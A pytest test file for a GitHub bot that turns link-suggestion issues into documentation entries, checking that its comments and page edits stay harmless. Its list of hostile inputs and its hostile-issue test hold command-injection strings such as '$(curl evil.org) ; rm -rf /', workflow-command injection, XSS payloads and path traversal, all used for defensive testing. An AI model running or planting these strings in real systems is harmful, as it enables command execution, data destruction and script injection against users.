"""Issue → entry, over recorded payloads: beside each stands the comment that it gets."""

import json
import os
import re
from pathlib import Path

import pytest
from contributing import ROOT, online, page_text, project, web  # noqa: F401 - fixtures
from helpers import project_of
from markdown import markdown

from signposts.github.entry import answer, look, outcome_text, read_outcome, read_request
from signposts.github.forms import LINK_FIELDS, link_wish, read_fields
from signposts.github.payload import MOST_BYTES, Node, PayloadError, parse, read
from signposts.links.policy import read_policy
from signposts.project import read_site

EVENTS = Path(__file__).parent / "events"
ANSWERED = sorted(path.stem for path in EVENTS.glob("link-*.json"))


async def lookup(_name, _port):
    return ["93.184.215.14"]


def answered(root, event):
    """What the two jobs do, one after the other."""
    request = read_request(event)
    made = project_of(root)
    site = read_site(made)
    outcome = look(request, site, read_policy(), "https://site.example.org/about/", lookup)
    outcome = read_outcome(parse(outcome_text(outcome).encode(), "outcome"))
    return answer(outcome, made, site)


@pytest.mark.parametrize("name", ANSWERED)
def test_each_payload_gets_the_comment_that_stands_beside_it(project, online, name):  # noqa: F811
    said = answered(project, read(EVENTS / f"{name}.json"))
    shown = said.comment + (f"\n\n=== {said.title} ===\n\n{said.body}" if said.addition else "") + "\n"
    golden = EVENTS / f"{name}.md"
    if "UPDATE_GOLDEN" in os.environ:
        golden.write_text(shown, encoding="utf-8")
    assert shown == golden.read_text(encoding="utf-8")


def test_an_accepted_link_is_in_its_place_and_keeps_all_rules(project, online):  # noqa: F811
    said = answered(project, read(EVENTS / "link-accepted.json"))
    assert said.addition.path == "docs/topic/page.md"
    assert said.addition.entry.question == "vanish"
    assert said.title == "Add #bee-gradients-explained-drawn"
    assert answered(project, read(EVENTS / "link-opened.json")).addition is None


def is_harmless(text):
    """True when nothing that strangers wrote works outside code: no HTML, link, mention, reference or command."""
    outside = re.sub(
        r"`[^`\n]*`", "", text.replace("<!-- signposts:entry -->", "").replace("<!-- signposts:preview -->", "")
    )
    html = re.sub(r"<code>.*?</code>", "", markdown(text, extensions=["tables"]), flags=re.DOTALL)
    return not (
        re.search(r"[<>@]|\$\{\{|::|evil|alert", outside)
        or re.search(r"evil|alert|<script|<img|onclick", html)
        or any(line.startswith("::") for line in text.split("\n"))
        or re.search("[\u200b\u202e]", text)
    )


def test_a_hostile_issue_makes_a_harmless_answer_and_a_harmless_entry(project, online):  # noqa: F811
    said = answered(project, read(EVENTS / "link-hostile.json"))
    assert is_harmless(said.comment)
    assert is_harmless(re.sub(r"^Closes #7\.$", "", said.body, flags=re.MULTILINE))
    assert re.fullmatch(r"Add #[a-z0-9-]+", said.title)
    entry = said.addition.entry
    assert entry.title == 'A title" onclick="alert(1)"'
    assert entry.description.startswith(
        "</textarea><script>alert(1)</script> ${{ secrets.GITHUB_TOKEN }} @everyone `code`"
    )
    added = set(said.addition.text.split("\n")) - set(page_text(project).split("\n"))
    assert len(added) == 2
    assert not any(line.lstrip().startswith(("::", "<", "- [x]")) for line in added)


HOSTILE_TEXTS = [
    "x" * 60_000,
    "`" * 500,
    "<!-- signposts:entry -->\n# Fake",
    "$(curl evil.org) ; rm -rf / && `id`",
    "::warning file=a,line=1::evil\n::set-env name=PATH::evil",
    "%0A::set-output name=a::evil",
    "@octocat #1 GH-1 evil.org/repo#1",
    "\u202eevil\u2066\u200b\ufeff\u00ad",
    '{ #a .article by="x" }\n- [y](https://evil.org){ #b .video }',
    "![](https://evil.org/pixel.png) [l](javascript:alert(1)) <a href='https://evil.org'>",
    "| a | b |\n| --- | --- |\n| evil | alert |",
    "</code></pre><script>alert(1)</script>",
    "\x00\x1b[31mevil\x07",
    "../../../.github/workflows/checks.yml",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
@pytest.mark.parametrize("label", list(LINK_FIELDS))
def test_whatever_stands_in_any_field_the_answer_is_harmless(project, label, text):  # noqa: F811
    fields = {
        "Address": "https://unasked.example.org/", "Topic page": "topic/page", "Question": "vanish", "Title": "T",
        "What the reader gets": "Long enough to be a description of it.", "Kind": "article", label: text,
    }  # fmt: skip
    body = "\n\n".join(f"### {name}\n\n{value}" for name, value in fields.items())
    made = project_of(project)
    data = {"number": 7, "accepted": True, "problem": "", "notices": [text]}
    wish = link_wish(body)
    row = {
        "attributes": dict(wish.attributes),
        **{n: getattr(wish, n) for n in ("url", "page", "question", "title", "kind", "description", "id")},
    }
    outcome = read_outcome(parse(json.dumps({**data, "wish": row}).encode(), "outcome"))
    said = answer(outcome, made, read_site(made))
    assert len(said.comment) < 20_000
    assert is_harmless(said.comment)
    if said.addition:
        assert said.addition.path == "docs/topic/page.md"
        before, after = page_text(project).split("\n"), said.addition.text.split("\n")
        place = next(n for n, line in enumerate(after) if line != before[n])
        assert after[:place] + after[place + 4 :] == before


def test_other_issues_and_closed_ones_are_left_alone():
    event = read(EVENTS / "other-opened.json")
    assert read_request(event) is None
    event = read(EVENTS / "link-opened.json")
    event.value["issue"]["state"] = "closed"
    assert read_request(event) is None


def test_only_a_maintainer_s_label_accepts():
    event = read(EVENTS / "link-accepted.json")
    assert read_request(event).accepted
    event.value["action"] = "edited"
    assert not read_request(event).accepted
    event.value.update(action="labeled", label={"name": "new link"})
    assert not read_request(event).accepted


def test_a_field_cannot_speak_for_one_after_it():
    fields = read_fields("### Title\n\nReal\n\n### Year\n\n1\n\n### Year\n\n2020\n### Unknown\n\nmore", LINK_FIELDS)
    assert fields == {"title": "Real", "year": "2020 ### Unknown more"}
    assert link_wish("### Address\n\n<https://a.org>").url == "https://a.org"
    assert link_wish("### Address\n\n[text](https://a.org)").url == "https://a.org"


@pytest.mark.parametrize(
    ("raw", "sentence"),
    [
        (b"x" * (MOST_BYTES + 1), "more than 2,000,000"),
        (b"\xff\xfe", "is not JSON"),
        (b"[" * 100_000, "is not JSON"),
        (b"[]", "is no JSON object"),
        (b'"text"', "is no JSON object"),
    ],
)
def test_what_is_no_payload_is_refused(raw, sentence):
    with pytest.raises(PayloadError, match=sentence):
        parse(raw, "event")


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        ({"number": "7; rm -rf /"}, "number is no positive number"),
        ({"number": True}, "number is no positive number"),
        ({"number": -1}, "number is no positive number"),
        ({"wish": {"url": ["https://a.org"]}}, "wish.url is no text"),
        ({"problem": {"a": 1}}, "problem is no text"),
        ({"notices": "x"}, "notices is no list"),
    ],
)
def test_an_outcome_of_another_shape_is_refused(change, sentence):
    data = {"number": 7, "accepted": False, "wish": {}, "problem": "", "notices": [], **change}
    with pytest.raises(PayloadError, match=sentence):
        read_outcome(Node(data, "outcome"))


def test_a_payload_that_is_not_there_is_said(tmp_path):
    with pytest.raises(PayloadError, match=r"event\.json cannot be read"):
        read(tmp_path / "event.json")


def test_the_form_asks_for_what_is_read():
    import yaml  # noqa: PLC0415

    form = yaml.safe_load((ROOT / ".github" / "ISSUE_TEMPLATE" / "link.yml").read_text(encoding="utf-8"))
    labels = [field["attributes"]["label"] for field in form["body"] if field["type"] != "markdown"]
    assert set(LINK_FIELDS) <= set(labels)
    assert form["labels"] == ["new link"]
